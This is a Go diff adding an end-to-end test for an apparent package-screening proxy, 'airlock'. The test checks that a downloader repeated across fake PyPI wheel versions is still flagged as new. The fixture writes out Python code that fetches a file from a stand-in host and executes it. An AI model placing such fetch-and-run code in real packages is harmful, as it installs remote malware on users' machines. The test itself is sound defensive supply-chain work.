@@ -1,6 +1,8 @@
 package e2e
 
 import (
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -59,5 +61,45 @@ func TestRepeatedPayloadIsNew(t *testing.T) {
 				t.Errorf("repeated payload not held as new against 1.0 (err %v):\n%s", err, out)
 			}
 		})
+	}
+}
+
+// TestUndecidedRepeatIsNotABaseline: on a fresh server, repeat 1.0 is
+// clean (90 days old); 1.1 and 1.2 carry the same downloader in
+// repeat/__init__.py and are past their cooldown (20 and 15 days), and
+// nobody ever decided 1.1. 1.1 is not a baseline because a page let it
+// through: it did not clear the content check, so 1.2's downloader is new
+// against 1.0. Unpinned pip gets 1.0, `airlock check repeat==1.2` says so,
+// and no finding is one "the project has always had".
+func TestUndecidedRepeatIsNotABaseline(t *testing.T) {
+	requireVenv(t)
+	pip := pipClient("pinned-pip", filepath.Join(venv, "bin", "python"))
+	fake := fakepypi.New()
+	t.Cleanup(fake.Close)
+	now := time.Now()
+	downloader := map[string]string{"repeat/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('http://example.invalid/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n"}
+	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.0"}, now.Add(-90*24*time.Hour))
+	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.1", Extra: downloader}, now.Add(-20*24*time.Hour))
+	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.2", Extra: downloader}, now.Add(-15*24*time.Hour))
+	env := airlockEnv(fake, "AIRLOCK_SIGNALS_ENABLED=false", "AIRLOCK_BACKGROUND_WORKERS=0")
+	a := startAirlock(t, t.TempDir(), env...)
+
+	for attempt := 0; ; attempt++ { // the download that brings evidence is refused; the next page holds it
+		target := t.TempDir()
+		out, err := run(t, pip.install(a.URL+"/simple/", target, "repeat"))
+		if err != nil && strings.Contains(out, "download-exec") && attempt < 3 {
+			continue
+		}
+		if err != nil {
+			t.Fatalf("unpinned: %v\n%s", err, out)
+		}
+		assertInstalled(t, target, map[string]string{"repeat": "1.0"})
+		break
+	}
+	check := exec.Command(airlockBin, "check", "repeat==1.2")
+	check.Env = append(cleanEnv(), append(env, "AIRLOCK_DATA_DIR="+t.TempDir())...)
+	out, err := run(t, check)
+	if err == nil || !strings.Contains(out, "download-exec") || !strings.Contains(out, "(not in 1.0)") || strings.Contains(out, "always had") {
+		t.Errorf("airlock check repeat==1.2 (err %v):\n%s", err, out)
 	}
 }
